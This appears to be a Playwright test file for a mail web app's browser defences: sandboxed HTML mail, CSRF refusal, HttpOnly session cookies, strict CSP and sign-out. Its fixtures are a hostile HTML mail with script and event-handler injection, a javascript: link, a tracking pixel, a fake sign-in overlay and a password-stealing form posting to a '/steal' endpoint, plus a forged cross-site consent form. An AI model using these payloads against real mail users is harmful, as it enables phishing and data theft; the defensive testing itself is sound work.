"""Attacks in the browser: hostile HTML mail stays inert in its frame, a cross-site form post
without the CSRF token is refused, the session cookie is out of script's reach, and every page
carries the strict Content-Security-Policy."""

from __future__ import annotations

import time
from typing import Any

from connector.web.auth import Role
from tests.webclient.conftest import Live, signed_in

HOSTILE = """<html><head>
<style>body {{ background: url({t}/css-background.gif) }}</style>
<script>parent.document.title = 'pwned-script';</script>
</head>
<body onload="parent.document.title='pwned-onload'">
<p id="hello">Invoice attached, please review.</p>
<img src="x" onerror="parent.document.title='pwned-onerror'">
<img id="pixel" src="{t}/pixel.gif?user=alice" width="1" height="1">
<a id="jslink" href="javascript:parent.document.title='pwned-link'">Open invoice</a>
<a id="weblink" href="https://example.com/invoice">Invoice online</a>
<div id="overlay"
  style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red">
Your session expired, sign in again</div>
<form id="phish" action="{t}/steal" method="post">
<input name="password"><button>Sign in</button></form>
<iframe src="{t}/frame"></iframe><object data="{t}/object"></object>
</body></html>"""


def _deliver(live: Live, html: str) -> str:
    """A hostile mail lands in alice's Gmail inbox (the emulator's store, as Gmail would);
    returns its thread id."""
    raw = (
        "From: Mallory <mallory@evil.example>\r\nTo: " + live.emu.users[0] + "\r\n"
        "Subject: Your invoice\r\nMessage-ID: <hostile-1@evil.example>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: text/html; charset="utf-8"\r\n\r\n' + html
    ).encode()

    return live.deliver(raw).thread_id


def _remove(live: Live, thread: str) -> None:
    """Take it out again, so the other tests see the seeded mailbox."""

    async def remove() -> None:
        box = live.alice_box()
        for message in [m for m in box.messages.values() if m.thread_id == thread]:
            box.delete_message(message)

    live.call(remove())


def test_hostile_html_mail_neither_runs_nor_loads_nor_escapes_its_frame(
    live: Live, context: Any, alice_account: str
) -> None:
    """Hostile HTML mail runs, loads and covers nothing; its pixel loads only once allowed."""
    thread = _deliver(live, HOSTILE.format(t=live.tracker_base))
    live.hits.clear()
    try:
        _assert_inert(live, context, alice_account, thread)
    finally:
        _remove(live, thread)


def _assert_inert(live: Live, context: Any, alice_account: str, thread: str) -> None:
    page = signed_in(live, context)
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(f"{live.base}/app/accounts/{alice_account}/threads/{thread}")
    frame_element = page.locator("iframe.mailbody").first
    frame = page.frame_locator("iframe.mailbody").first
    assert "Invoice attached" in frame.locator("#mail-hello").inner_text()
    sandbox = frame_element.get_attribute("sandbox")
    assert sandbox is not None
    assert "allow-scripts" not in sandbox
    assert "allow-same-origin" not in sandbox
    time.sleep(0.5)  # let anything that could load, load
    assert "pwned" not in page.title()
    assert live.hits == []  # no pixel, no CSS background, no frame, no object
    for selector in ("script", "form", "input", "iframe", "object", "style", "[onerror]",
                     "[onload]"):  # fmt: skip
        assert frame.locator(f"body {selector}").count() == 0, selector  # the mail's part
    assert frame.locator("#mail-jslink").get_attribute("href") is None
    web_link = frame.locator("#mail-weblink")
    assert web_link.get_attribute("target") == "_blank"
    assert web_link.get_attribute("rel") == "noopener noreferrer"
    overlay_position = frame.locator("#mail-overlay").evaluate("e => getComputedStyle(e).position")
    assert overlay_position != "fixed"
    # The overlay could at most cover its own frame: the page's controls stay usable.
    page.get_by_role("link", name="Reply", exact=True).first.click(trial=True)
    frame.locator("#mail-jslink").click()
    time.sleep(0.2)
    assert "pwned" not in page.title()
    blocked = page.locator(".blocked")
    assert "1 remote image blocked" in blocked.inner_text()
    blocked.get_by_role("link", name="Show remote images in this message").click()
    page.frame_locator("iframe.mailbody").first.locator("#mail-pixel").wait_for(state="attached")
    deadline = time.monotonic() + 5
    while not any(h == "/pixel.gif" for h in live.hits) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert "/pixel.gif" in live.hits  # allowed for this message: now it loads
    # The body's own URL with remote=1, opened from another site, still loads nothing remote.
    body = page.frame_locator("iframe.mailbody").first.locator("body")
    assert body.count() == 1
    src = page.locator("iframe.mailbody").first.get_attribute("src")
    assert src is not None
    assert "remote=1" in src
    live.hits.clear()
    live.state["attacker_page"] = f'<a id="go" href="{live.base}{src}">Your invoice</a>'
    page.goto(f"{live.tracker_base}/attack")
    page.click("#go")
    page.wait_for_url("**/body?remote=1")
    time.sleep(0.3)
    assert "/pixel.gif" not in live.hits
    assert "/steal" not in live.hits
    assert "pwned" not in page.title()
    assert errors == []


def test_cross_site_form_post_without_the_csrf_token_is_refused(
    live: Live, context: Any, alice_account: str
) -> None:
    """A page on another site posts a consent grant with alice's cookie: refused, none made."""
    page = signed_in(live, context)
    page.goto(f"{live.base}/app/accounts/{alice_account}/inbox")
    message = page.locator("table.messages tbody tr").first.get_attribute("data-message-id")
    live.state["attacker_page"] = (
        f'<form id="f" method="post" action="{live.base}/app/accounts/{alice_account}/consents">'
        f'<input name="message_id" value="{message}"><input name="grantee_id" value="op-evil">'
        '<input name="ttl_days" value="30"><button id="go">Win a prize</button></form>'
    )
    # Another site: SameSite=Lax keeps the cookie off its POST, so no session at all (401).
    # A sibling origin on the same site (another port): the cookie goes along, the missing
    # token and Sec-Fetch-Site refuse it (403).
    sibling = live.tracker_base.replace("localhost", "127.0.0.1")
    for origin, status in ((live.tracker_base, 401), (sibling, 403)):
        page.goto(f"{origin}/attack")
        with page.expect_response(lambda r: r.url.endswith("/consents")) as info:
            page.click("#go")
        assert info.value.status == status, origin
    # With the cookie but no token, even from the same origin: refused by the token alone.
    same = context.request.post(
        f"{live.base}/app/accounts/{alice_account}/consents",
        form={"message_id": str(message), "grantee_id": "op-evil", "ttl_days": "30"},
        headers={"Sec-Fetch-Site": "same-origin"}, max_redirects=0,
    )  # fmt: skip
    assert same.status == 403
    page.goto(f"{live.base}/app/accounts/{alice_account}/consents")
    assert page.locator("table.consents tbody tr", has_text="op-evil").count() == 0


def test_the_session_cookie_is_not_readable_from_script(live: Live, context: Any) -> None:
    """document.cookie never shows the session; the page's CSP allows no inline script."""
    page = signed_in(live, context, "rev-rita", Role.REVIEWER)
    assert "connector_session" not in page.evaluate("document.cookie")
    assert any(c["name"].endswith("connector_session") for c in context.cookies())
    response = page.goto(f"{live.base}/app/reviewer")
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "script-src 'self'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]
    assert "frame-ancestors 'self'" in policy
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "no-referrer"
    ran = page.evaluate(
        """() => new Promise(done => {
            const s = document.createElement('script');
            s.textContent = 'window.__inline = 1';
            document.head.appendChild(s);
            setTimeout(() => done(window.__inline === 1), 100);
        })"""
    )
    assert ran is False


def test_signing_out_ends_the_session(live: Live, context: Any) -> None:
    """After sign-out the cookie is gone and a replay of the old cookie is refused."""
    page = signed_in(live, context)
    old = [c for c in context.cookies() if c["name"].endswith("connector_session")]
    page.get_by_role("button", name="Sign out").click()
    page.wait_for_url("**/app/signin?notice=signed_out")
    assert "You are signed out." in page.locator("#notice").inner_text()
    assert not [c for c in context.cookies() if c["name"].endswith("connector_session")]
    context.add_cookies(old)
    replay = page.goto(f"{live.base}/app/accounts")
    assert replay is not None
    assert replay.status == 401
